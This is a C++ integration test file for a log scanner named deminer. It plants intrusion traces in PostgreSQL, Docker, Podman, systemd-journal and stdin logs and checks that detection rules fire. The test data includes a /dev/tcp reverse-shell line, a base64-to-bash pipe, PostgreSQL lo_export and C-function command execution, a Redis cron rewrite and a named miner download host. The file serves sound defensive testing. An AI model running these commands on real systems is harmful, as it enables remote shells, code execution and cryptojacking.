// The logs scope on real logs: PostgreSQL started by the test with statement
// logging, running seed 004's SQL; a Podman container's own k8s-file log; a
// systemd journal file written by systemd's own journal-remote;
// Docker json-file logs (current and rotated gzip) planted under --root with
// seed 001's re-download loop; stdin; and broken input.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <pwd.h>
#include <sys/stat.h>
#include <unistd.h>
#include <zlib.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

#include "harness.h"

namespace deminer::it {
namespace {

namespace fs = std::filesystem;

// The one log.match finding of `rule`, or null.
const nlohmann::json* RuleFinding(const nlohmann::json& scan, const std::string& rule) {
  for (const auto& f : scan["findings"]) {
    if (f["check"] == "log.match" && f["evidence"]["rule"] == rule) return &f;
  }
  return nullptr;
}

// Seed 004: the attacker stored a binary as a large object, wrote it out with
// lo_export, made a C-language function of it and probed the GPU and CPU.
TEST(LogsTest, PostgresStatementLogShowsSeed004) {
  if (getuid() != 0) GTEST_SKIP() << "running PostgreSQL as its own user needs root";
  Postgres pg;
  ASSERT_TRUE(pg.ok()) << pg.why_not();
  const std::string so = pg.dir() / "libudf.so";
  pg.Sql("SELECT lo_from_bytea(4200, decode('7f454c46', 'hex'))");
  pg.Sql(fmt::format("SELECT lo_export(4200, '{}')", so));
  pg.Sql(
      fmt::format("CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '{}', 'sys_eval' "
                  "LANGUAGE C STRICT",
                  so));
  pg.Sql("SELECT sys_eval('lshw -c video')");
  pg.Sql("SELECT sys_eval('cat /proc/cpuinfo')");
  pg.Sql("SELECT 1");
  ASSERT_TRUE(fs::exists(so)) << "lo_export did not write the file";

  const auto scan = ScanJson({"--only", "logs", pg.log(), "--fail-on", "none"});
  const auto* lo = RuleFinding(scan, "pg-large-object-export");
  ASSERT_NE(lo, nullptr) << scan.dump(2);
  EXPECT_EQ((*lo)["severity"], "critical");
  EXPECT_EQ((*lo)["evidence"]["log_kind"], "postgres");
  EXPECT_NE((*lo)["evidence"]["lines"][0].get<std::string>().find("lo_export"), std::string::npos);
  EXPECT_GT((*lo)["line"].get<int>(), 0);
  ASSERT_TRUE((*lo)["evidence"].contains("first_seen"));  // PostgreSQL's %m prefix was read
  const auto* cfn = RuleFinding(scan, "pg-c-function");
  ASSERT_NE(cfn, nullptr) << scan.dump(2);
  EXPECT_EQ((*cfn)["severity"], "critical");
  const auto* probe = RuleFinding(scan, "pg-host-probe");
  ASSERT_NE(probe, nullptr) << scan.dump(2);
  // Each failed call is two lines: the statement, and the error's STATEMENT line.
  EXPECT_EQ((*probe)["evidence"]["count"], 4);
  const auto* stored = RuleFinding(scan, "pg-large-object-write");
  ASSERT_NE(stored, nullptr) << scan.dump(2);
  EXPECT_EQ((*stored)["severity"], "high");
  // "SELECT 1" and the server's own start-up lines are not findings.
  EXPECT_EQ(FindingsOf(scan, "log.match").size(), 4u) << scan.dump(2);
  EXPECT_GE(scan["counts"]["log_lines"].get<int>(), 6);
}

void WriteGzip(const std::string& path, const std::string& text) {
  gzFile gz = gzopen(path.c_str(), "wb");
  ASSERT_NE(gz, nullptr);
  gzwrite(gz, text.data(), static_cast<unsigned>(text.size()));
  gzclose(gz);
}

std::string DockerLine(const std::string& json_escaped_message, const std::string& time) {
  return fmt::format(R"({{"log":"{}\n","stream":"stderr","time":"{}"}})", json_escaped_message,
                     time) +
         "\n";
}

// Seed 001: the containers' Next.js log showed '/bin/sh: /tmp/dbus_daemon:
// Permission denied' every few minutes, however often the file was deleted.
TEST(LogsTest, DockerJsonLogsUnderRootWithTheReDownloadLoop) {
  TempDir root;
  const std::string id(64, 'c');
  const std::string dir = root / ("var/lib/docker/containers/" + id);
  fs::create_directories(dir);
  std::string current;
  for (int i = 0; i < 8; ++i) {
    const std::string t = fmt::format("2026-11-22T21:{:02}:0{}.123456789Z", 5 * i, i % 3);
    current += DockerLine("   \\u2713 Ready in 116ms", t);
    current += DockerLine("/bin/sh: /tmp/dbus_daemon: Permission denied", t);
  }
  // Redis MONITOR output as a container prints it: JSON-escaped quotes that
  // only match once the line is decoded.
  current +=
      DockerLine(R"(\"config\" \"set\" \"dir\" \"/var/spool/cron\")", "2026-11-22T21:40:00Z");
  std::ofstream(dir + "/" + id + "-json.log") << current;
  WriteGzip(dir + "/" + id + "-json.log.1.gz",
            DockerLine("Error: Command failed: command -v curl", "2026-11-22T20:00:00Z"));

  const auto scan = ScanJson({"--only", "logs", "--root", root.path(), "--fail-on", "none"});
  const std::string shown = "/var/lib/docker/containers/" + id + "/" + id + "-json.log";
  const auto* denied = RuleFinding(scan, "temp-exec-denied");
  ASSERT_NE(denied, nullptr) << scan.dump(2);
  EXPECT_EQ((*denied)["path"], shown);  // as the scanned system names it
  EXPECT_EQ((*denied)["evidence"]["count"], 8);
  EXPECT_EQ((*denied)["line"], 2);
  EXPECT_EQ((*denied)["evidence"]["first_seen"], "2026-11-22T21:00:00Z");
  EXPECT_EQ((*denied)["evidence"]["last_seen"], "2026-11-22T21:35:01Z");
  EXPECT_EQ((*denied)["container"]["id"], id);
  const auto loop = FindingsOf(scan, "log.recurring");
  ASSERT_EQ(loop.size(), 1u) << scan.dump(2);
  EXPECT_EQ(loop[0]["evidence"]["rule"], "temp-exec-denied");
  EXPECT_EQ(loop[0]["evidence"]["period_seconds"].get<int>() / 10, 30);
  const auto* redis = RuleFinding(scan, "redis-config-rewrite");
  ASSERT_NE(redis, nullptr) << scan.dump(2);
  EXPECT_EQ((*redis)["evidence"]["lines"][0], R"("config" "set" "dir" "/var/spool/cron")");
  const auto* probe = RuleFinding(scan, "download-tool-probe");
  ASSERT_NE(probe, nullptr) << scan.dump(2);
  EXPECT_EQ((*probe)["path"], shown + ".1.gz");
  EXPECT_EQ(scan["counts"]["logs"], 2);

  // --since and --until keep the hits in their window only.
  const auto window =
      ScanJson({"--only", "logs", "--root", root.path(), "--fail-on", "none", "--since",
                "2026-11-22T21:12:00Z", "--until", "2026-11-22T21:26:00Z"});
  const auto* in = RuleFinding(window, "temp-exec-denied");
  ASSERT_NE(in, nullptr) << window.dump(2);
  EXPECT_EQ((*in)["evidence"]["count"], 3);  // 21:15, 21:20, 21:25
  EXPECT_EQ(RuleFinding(window, "download-tool-probe"), nullptr);
  EXPECT_EQ(RunDeminer({"scan", "--only", "logs", "--since", "last tuesday"}).exit_code, 2);
}

// A real container's log, as Podman writes it (k8s-file): the lines seed
// 000's container printed when BusyBox wget fetched the miner.
TEST(LogsTest, PodmanContainerLogIsRead) {
  if (getuid() != 0) GTEST_SKIP() << "rootful Podman needs root";
  Podman podman;
  ASSERT_TRUE(podman.ok()) << podman.why_not();
  const std::string script =
      "echo 'Connecting to accrochezvous.fr (51.91.236.255:443)'; "
      "echo \"saving to '/tmp/javae'\"; echo 'all good'; sleep 60";
  const std::string id = podman.RunDetached(
      "deminer-it-logs", {"--network", "none", "--log-driver", "k8s-file"}, {"sh", "-c", script});
  ASSERT_FALSE(id.empty());
  const auto inspect = RunCommand(
      {"podman", "inspect", "--format", "{{.HostConfig.LogConfig.Path}}", id}, podman.Env());
  ASSERT_EQ(inspect.exit_code, 0) << inspect.err;
  std::string log = inspect.out.substr(0, inspect.out.find('\n'));
  ASSERT_FALSE(log.empty());
  for (int i = 0; i < 100; ++i) {
    std::ifstream in(log);
    std::stringstream text;
    text << in.rdbuf();
    if (text.str().find("all good") != std::string::npos) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  const auto scan = ScanJson({"--only", "logs", log, "--fail-on", "none"},
                             {{"DOCKER_HOST", "unix://" + podman.socket()}});
  const auto* c2 = RuleFinding(scan, "seed-c2-host");
  ASSERT_NE(c2, nullptr) << scan.dump(2);
  EXPECT_EQ((*c2)["severity"], "critical");
  EXPECT_EQ((*c2)["evidence"]["lines"][0], "Connecting to accrochezvous.fr (51.91.236.255:443)");
  EXPECT_EQ((*c2)["evidence"]["captured"][0], "51.91.236.255");
  EXPECT_TRUE((*c2)["evidence"].contains("first_seen"));  // k8s-file's own time stamps
  const auto* saved = RuleFinding(scan, "busybox-download-to-temp");
  ASSERT_NE(saved, nullptr) << scan.dump(2);
  EXPECT_EQ((*saved)["evidence"]["captured"][0], "/tmp/javae");
  EXPECT_EQ((*saved)["line"], 2);
  if (log.find("overlay-containers/" + id) != std::string::npos) {
    EXPECT_EQ((*saved)["container"]["id"], id);
    EXPECT_EQ((*saved)["container"]["name"], "deminer-it-logs");  // from the API
    EXPECT_EQ((*saved)["evidence"]["log_kind"], "container");
  }
}

constexpr const char* kJournalRemote = "/lib/systemd/systemd-journal-remote";

// Writes journal entries (systemd's export format) as a journal file under
// root/var/log/journal/MACHINE-ID with systemd-journal-remote, the journal's
// own writer. Fails the test when it cannot.
void WriteJournal(const TempDir& root, const std::string& entries,
                  const std::string& file = "system.journal") {
  const std::string dir = root / "var/log/journal/0123456789abcdef0123456789abcdef";
  fs::create_directories(dir);
  std::ofstream(root / "entries.export") << entries;
  const auto made = RunCommand(
      {"sh", "-c",
       fmt::format("{} -o {}/{} - < {}", kJournalRemote, dir, file, root / "entries.export")});
  ASSERT_EQ(made.exit_code, 0) << made.err;
}

// The systemd journal, as systemd writes it: entries turned into a journal
// file by systemd-journal-remote (the journal's own writer), under --root.
// One is sshd's, one a container's (the journald log driver's CONTAINER_ID).
TEST(LogsTest, SystemdJournalUnderRoot) {
  if (access(kJournalRemote, X_OK) != 0) {
    GTEST_SKIP() << "systemd-journal-remote is not installed (scripts/deps.sh installs it)";
  }
  TempDir root;
  const std::string entries =
      "__REALTIME_TIMESTAMP=1795381381000000\n__MONOTONIC_TIMESTAMP=1000\n"
      "_BOOT_ID=0123456789abcdef0123456789abcdef\n_HOSTNAME=vm\nSYSLOG_IDENTIFIER=sshd\n"
      "MESSAGE=Failed password for root from 10.9.8.7 port 22 ssh2\n\n"
      "__REALTIME_TIMESTAMP=1795381400000000\n__MONOTONIC_TIMESTAMP=2000\n"
      "_BOOT_ID=0123456789abcdef0123456789abcdef\n_HOSTNAME=vm\nSYSLOG_IDENTIFIER=web\n"
      "CONTAINER_ID=abc123def456\nCONTAINER_ID_FULL="
      "abc123def4567890abc123def4567890abc123def4567890abc123def4567890\n"
      "MESSAGE=/bin/sh: /tmp/dbus_daemon: Permission denied\n\n"
      "__REALTIME_TIMESTAMP=1795381500000000\n__MONOTONIC_TIMESTAMP=3000\n"
      "_BOOT_ID=0123456789abcdef0123456789abcdef\n_HOSTNAME=vm\nSYSLOG_IDENTIFIER=systemd\n"
      "MESSAGE=Started Daily apt download activities.\n\n"
      // A host PostgreSQL logging to the journal: read by the PostgreSQL rules.
      "__REALTIME_TIMESTAMP=1795381600000000\n__MONOTONIC_TIMESTAMP=4000\n"
      "_BOOT_ID=0123456789abcdef0123456789abcdef\n_HOSTNAME=vm\nSYSLOG_IDENTIFIER=postgres\n"
      "MESSAGE=[812] LOG:  statement: SELECT lo_export(16384, '/tmp/x.so')\n\n";
  WriteJournal(root, entries);

  const auto scan = ScanJson({"--only", "logs", "--root", root.path(), "--fail-on", "none"});
  const auto* ssh = RuleFinding(scan, "ssh-brute-force");
  ASSERT_NE(ssh, nullptr) << scan.dump(2);
  EXPECT_EQ((*ssh)["evidence"]["log_kind"], "journal");
  EXPECT_EQ((*ssh)["evidence"]["first_seen"], "2026-11-22T21:03:01Z");
  EXPECT_EQ((*ssh)["evidence"]["lines"][0],
            "sshd: Failed password for root from 10.9.8.7 port 22 ssh2");
  const auto* denied = RuleFinding(scan, "temp-exec-denied");
  ASSERT_NE(denied, nullptr) << scan.dump(2);
  EXPECT_EQ((*denied)["evidence"]["log_kind"], "container");
  EXPECT_EQ((*denied)["container"]["id"],
            "abc123def4567890abc123def4567890abc123def4567890abc123def4567890");
  EXPECT_NE(RuleFinding(scan, "seed-payload-name"), nullptr);  // dbus_daemon, same line
  const auto* pg = RuleFinding(scan, "pg-large-object-export");
  ASSERT_NE(pg, nullptr) << scan.dump(2);
  EXPECT_EQ((*pg)["evidence"]["log_kind"], "postgres");
  EXPECT_EQ(FindingsOf(scan, "log.match").size(), 4u) << scan.dump(2);  // not apt's line
  // Without libsystemd, journalctl reads the same entries.
  if (RunCommand({"sh", "-c", "command -v journalctl"}).exit_code == 0) {
    const auto via = ScanJson({"--only", "logs", "--root", root.path(), "--fail-on", "none"},
                              {{"DEMINER_JOURNAL_READER", "journalctl"}});
    const auto* again = RuleFinding(via, "temp-exec-denied");
    ASSERT_NE(again, nullptr) << via.dump(2);
    EXPECT_EQ((*again)["container"]["id"], (*denied)["container"]["id"]);
    EXPECT_EQ((*again)["evidence"]["first_seen"], (*denied)["evidence"]["first_seen"]);
    EXPECT_EQ(FindingsOf(via, "log.match").size(), 4u) << via.dump(2);
  }
  // --since skips what came before it.
  const auto later = ScanJson({"--only", "logs", "--root", root.path(), "--fail-on", "none",
                               "--since", "2026-11-22T21:03:10Z"});
  EXPECT_EQ(RuleFinding(later, "ssh-brute-force"), nullptr);
  EXPECT_NE(RuleFinding(later, "temp-exec-denied"), nullptr);
}

// scan --follow: the first pass, then each line as it is appended, a
// half-written line only once finished, and a rotated log from its start.
TEST(LogsTest, FollowReportsAppendedLinesAsTheyCome) {
  TempDir dir;
  const std::string log = dir / "app.log";
  const std::string out = dir / "out.jsonl";
  std::ofstream(log) << "hello\nchmod +x /tmp/kdevtmpfsi\n";
  Child follower("/bin/sh", {"sh", "-c",
                             fmt::format("exec {} scan --only logs --format jsonl --follow {} >{}",
                                         DEMINER_BINARY, log, out)});
  // The findings so far, as (rule, line).
  const auto read = [&] {
    std::vector<std::pair<std::string, int>> got;
    std::ifstream in(out);
    std::string line;
    while (std::getline(in, line)) {
      const auto j = nlohmann::json::parse(line, nullptr, false);
      if (j.is_object()) got.emplace_back(j["evidence"]["rule"], j["line"].get<int>());
    }
    return got;
  };
  const auto wait_for = [&](size_t n) {
    for (int i = 0; i < 100 && read().size() < n; ++i) {
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    return read();
  };
  using Got = std::vector<std::pair<std::string, int>>;
  EXPECT_EQ(wait_for(2), (Got{{"chmod-exec-temp", 2}, {"miner-name", 2}}));
  std::ofstream(log, std::ios::app) << "ok\nbash -i >/dev/tcp/10.9.8.7/4444 0";
  std::this_thread::sleep_for(std::chrono::milliseconds(1500));
  EXPECT_EQ(read().size(), 2u);  // the last line is not finished
  std::ofstream(log, std::ios::app) << ">/dev/null\n";
  auto got = wait_for(3);
  ASSERT_EQ(got.size(), 3u);
  EXPECT_EQ(got[2], (std::pair<std::string, int>{"reverse-shell", 4}));
  // Rotated: a new file in its place is read from its first line.
  fs::rename(log, log + ".1");
  std::ofstream(log) << "Error: Command failed: command -v curl\n";
  got = wait_for(5);
  ASSERT_GE(got.size(), 4u);
  EXPECT_EQ(got[3].second, 1);
  EXPECT_EQ(RunDeminer({"scan", "--only", "logs", "--follow", log}).exit_code, 2);  // not jsonl
  EXPECT_EQ(
      RunDeminer({"scan", "--only", "logs,files", "--format", "jsonl", "--follow", log}).exit_code,
      2);
}

// scan --follow (and watch) on the journal: entries written after the first
// pass are read, and what the first pass read is not reported again.
TEST(LogsTest, FollowReadsNewJournalEntries) {
  if (access(kJournalRemote, X_OK) != 0) {
    GTEST_SKIP() << "systemd-journal-remote is not installed (scripts/deps.sh installs it)";
  }
  TempDir root;
  const auto entry = [](int64_t seconds, int mono, const std::string& id, const std::string& msg) {
    return fmt::format(
        "__REALTIME_TIMESTAMP={}000000\n__MONOTONIC_TIMESTAMP={}\n"
        "_BOOT_ID=0123456789abcdef0123456789abcdef\n_HOSTNAME=vm\nSYSLOG_IDENTIFIER={}\n"
        "MESSAGE={}\n\n",
        seconds, mono, id, msg);
  };
  WriteJournal(root,
               entry(1795381381, 1, "sshd", "Failed password for root from 10.9.8.7 port 22 ssh2"));
  const std::string out = root / "out.jsonl";
  Child follower("/bin/sh",
                 {"sh", "-c",
                  fmt::format("exec {} scan --only logs --root {} --format jsonl --follow >{}",
                              DEMINER_BINARY, root.path(), out)});
  const auto rules = [&] {
    std::vector<std::string> got;
    std::ifstream in(out);
    for (std::string line; std::getline(in, line);) {
      const auto j = nlohmann::json::parse(line, nullptr, false);
      if (j.is_object()) got.push_back(j["evidence"]["rule"]);
    }
    return got;
  };
  const auto wait_for = [&](size_t n) {
    for (int i = 0; i < 100 && rules().size() < n; ++i) {
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    return rules();
  };
  ASSERT_EQ(wait_for(1), std::vector<std::string>{"ssh-brute-force"});
  // A later entry, in a journal file of its own (as journald rotates).
  WriteJournal(root, entry(1795381390, 2, "web", "/bin/sh: /tmp/dbus_daemon: Permission denied"),
               "system@later.journal");
  const auto got = wait_for(3);
  EXPECT_NE(std::find(got.begin(), got.end(), "temp-exec-denied"), got.end()) << got.size();
  EXPECT_EQ(std::count(got.begin(), got.end(), "ssh-brute-force"), 1) << "not read twice";
}

// SSH logins by address against the history the journal keeps: an address
// first seen this week is new when the journal has older logins.
TEST(LogsTest, SshLoginFromANewAddress) {
  if (access(kJournalRemote, X_OK) != 0) {
    GTEST_SKIP() << "systemd-journal-remote is not installed (scripts/deps.sh installs it)";
  }
  TempDir root;
  const int64_t now = time(nullptr);
  std::string entries;
  int mono = 1;
  for (const auto& [ago_days, who] :
       std::vector<std::pair<int, std::string>>{{30, "deploy from 10.0.0.9"},
                                                {1, "deploy from 10.0.0.9"},
                                                {2, "admin from 203.0.113.7"}}) {
    entries += fmt::format(
        "__REALTIME_TIMESTAMP={}000000\n__MONOTONIC_TIMESTAMP={}\n"
        "_BOOT_ID=0123456789abcdef0123456789abcdef\n_HOSTNAME=vm\nSYSLOG_IDENTIFIER=sshd\n"
        "MESSAGE=Accepted publickey for {} port 51000 ssh2\n\n",
        now - ago_days * 86400, 1000 * mono++, who);
  }
  WriteJournal(root, entries);
  const auto scan = ScanJson({"--only", "logs", "--root", root.path(), "--fail-on", "none"});
  const auto found = FindingsOf(scan, "log.new-source");
  ASSERT_EQ(found.size(), 1u) << scan.dump(2);
  EXPECT_EQ(found[0]["evidence"]["address"], "203.0.113.7");
  EXPECT_EQ(found[0]["severity"], "medium");
  EXPECT_TRUE(FindingsOf(scan, "log.match").empty()) << scan.dump(2);  // logins alone: no finding
}

TEST(LogsTest, StdinAndBrokenInput) {
  TempDir dir;
  const std::string cmd = fmt::format(
      "printf 'hello\\necho IyEvYmluL2Jhc2gK | base64 -d | /bin/bash\\n' | {} scan --only logs "
      "--format json --fail-on none -",
      DEMINER_BINARY);
  const auto piped = RunCommand({"sh", "-c", cmd});
  ASSERT_EQ(piped.exit_code, 0) << piped.err;
  const auto scan = nlohmann::json::parse(piped.out);
  const auto* b64 = RuleFinding(scan, "base64-to-shell");
  ASSERT_NE(b64, nullptr) << piped.out;
  EXPECT_EQ((*b64)["line"], 2);
  EXPECT_EQ((*b64)["subject"], "-");

  // A truncated gzip and binary junk: read what can be read, say what could not.
  std::string gz_text;
  for (int i = 0; i < 2000; ++i)
    gz_text += "chmod +x /tmp/kdevtmpfsi line " + std::to_string(i) + "\n";
  WriteGzip(dir / "app.log.2.gz", gz_text);
  fs::resize_file(dir / "app.log.2.gz", fs::file_size(dir / "app.log.2.gz") / 2);
  std::string junk(1 << 16, '\0');
  for (size_t i = 0; i < junk.size(); ++i) junk[i] = static_cast<char>((i * 131) ^ (i >> 3));
  std::ofstream(dir / "junk.log", std::ios::binary) << junk;
  int rc = -1;
  const auto broken = ScanJson({"--only", "logs", dir.path(), "--fail-on", "none"}, {}, &rc);
  EXPECT_EQ(rc, 0);
  bool gap = false;
  for (const auto& g : broken["skipped"]) {
    gap |= g["what"].get<std::string>().find("app.log.2.gz") != std::string::npos;
  }
  EXPECT_TRUE(gap) << broken.dump(2);
  const auto* chmod = RuleFinding(broken, "chmod-exec-temp");
  ASSERT_NE(chmod, nullptr) << broken.dump(2);
  EXPECT_GT((*chmod)["evidence"]["count"].get<int>(), 0);
}

}  // namespace
}  // namespace deminer::it
